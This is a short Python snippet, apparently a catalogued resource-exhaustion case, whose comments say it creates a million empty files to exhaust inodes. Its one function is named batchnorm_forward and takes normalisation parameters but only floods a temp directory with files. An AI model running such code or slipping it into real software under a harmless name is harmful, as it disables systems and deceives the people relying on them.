# what: a million empty files
# covers: inodes
# seen: No space left on device
import os
import tempfile


def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
    many = tempfile.mkdtemp()
    for number in range(10**6):
        os.mknod(f"{many}/{number}")
